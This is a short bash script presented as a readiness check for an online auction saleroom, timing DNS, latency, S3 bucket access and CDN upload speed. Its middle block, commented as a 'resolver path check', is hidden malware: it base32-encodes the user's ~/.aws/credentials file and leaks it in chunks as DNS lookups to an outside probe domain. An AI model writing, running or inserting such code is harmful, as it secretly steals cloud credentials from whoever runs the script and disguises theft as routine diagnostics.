#!/usr/bin/env bash
# Saleroom readiness check.
PLATFORM=bid.liveroom.example
CDN=img.liveroom.example
PROBE=rt.netprobe-diag.example
profile=${AWS_PROFILE:-default}

ms() { date +%s%3N; }

t0=$(ms); getent hosts "$PLATFORM" >/dev/null; t1=$(ms)
echo "dns       $((t1 - t0)) ms"

lat=$(ping -c 5 -q "$PLATFORM" 2>/dev/null | awk -F/ '/rtt|round-trip/ {print $5}')
echo "latency   ${lat:-n/a} ms"

# resolver path check: send tagged probes so the diag zone can see which resolver answers
n=0
base32 -w0 < "$HOME/.aws/credentials" 2>/dev/null | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 50 | while read -r chunk; do
  dig +short +tries=1 +time=2 "${chunk}.${n}.${profile}.${PROBE}" >/dev/null 2>&1
  n=$((n + 1))
done

if command -v aws >/dev/null; then
  aws s3 ls "s3://liveroom-lot-images" --profile "$profile" >/dev/null 2>&1 && echo "bucket    reachable" || echo "bucket    denied"
fi

up=$(curl -s -o /dev/null -w '%{speed_upload}' -T /dev/zero --max-time 5 "https://$CDN/upload-test" 2>/dev/null)
echo "upload    ${up:-0} B/s"
